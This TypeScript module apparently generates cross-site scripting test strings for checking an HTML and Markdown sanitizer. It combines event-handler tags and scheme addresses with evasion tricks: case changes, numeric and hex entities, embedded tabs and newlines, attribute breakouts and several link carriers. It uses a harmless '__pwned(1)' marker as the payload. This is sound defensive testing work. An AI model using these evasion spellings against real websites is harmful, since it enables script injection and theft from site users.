/**
 * Generated attack strings: every way of running code combined with every spelling that filters have missed. Not
 * taken from any list: what the lists beside this file contain once, this tries in every combination.
 */

import { elements, handlers, schemes } from './variants.data.ts';

const PAYLOAD = '__pwned(1)';

/** A tag with a handler, in spellings that browsers still understand. */
const spellings: readonly ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=${PAYLOAD}>`,
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}="${PAYLOAD}">`,
  (element, handler) => `<${element.replaceAll(' ', '/')}/${handler}='${PAYLOAD}'/>`,
  (element, handler) => `<${element}\n${handler}\f=\n${decimal(PAYLOAD)}\n>`,
  (element, handler) => `"><${element} a="" ${handler}=${PAYLOAD}//`,
  (element, handler) => `<p title='</p><${element} ${handler}=${PAYLOAD}>'>a</p>`,
];

/** An address in disguises that browsers see through. */
const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => [...address].map((sign, i) => (i % 2 ? sign.toUpperCase() : sign)).join(''),
  (address) => decimal(address),
  (address) => hexadecimal(address),
  (address) => decimal(address, 7).replaceAll(';', ''),
  (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  (address) => `${address.slice(0, 4)}&NewLine;${address.slice(4)}`,
  (address) => address.replace(':', '&colon;'),
  (address) => ` \n${address}`,
  (address) => `&#1;${address}`,
  (address) => `\u2028${address}`,
];

/** Markup that contains an address, in HTML and in Markdown. */
const carriers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a</a>`,
  (address) => `<a href='${address}' xlink:href='${address}'>a</a>`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button formaction="${address}">a</button></form>`,
  (address) => `<svg><a href="${address}"><text>a</text></a></svg>`,
  (address) => `[a](<${address}>)`,
  (address) => `![a](${address})`,
  (address) => `[a]\n\n[a]: ${address}`,
];

/** Every tag with every handler, in alternating spellings, and every disguised scheme in every carrier. */
export function variants(): string[] {
  const tags = elements.flatMap((element, row) =>
    handlers.map((handler, column) => spellings[(row + column) % spellings.length]?.(element, handler)),
  );
  const links = addresses().flatMap((address) => carriers.map((carry) => carry(address)));
  return [...tags.filter((tag) => tag !== undefined), ...links];
}

/** Every scheme in every disguise. */
export function addresses(): string[] {
  return schemes.flatMap((scheme) => disguises.map((disguise) => disguise(`${scheme}:${PAYLOAD}`)));
}

function decimal(text: string, digits = 0): string {
  return [...text].map((sign) => `&#${String(sign.codePointAt(0)).padStart(digits, '0')};`).join('');
}

function hexadecimal(text: string): string {
  return [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16)};`).join('');
}
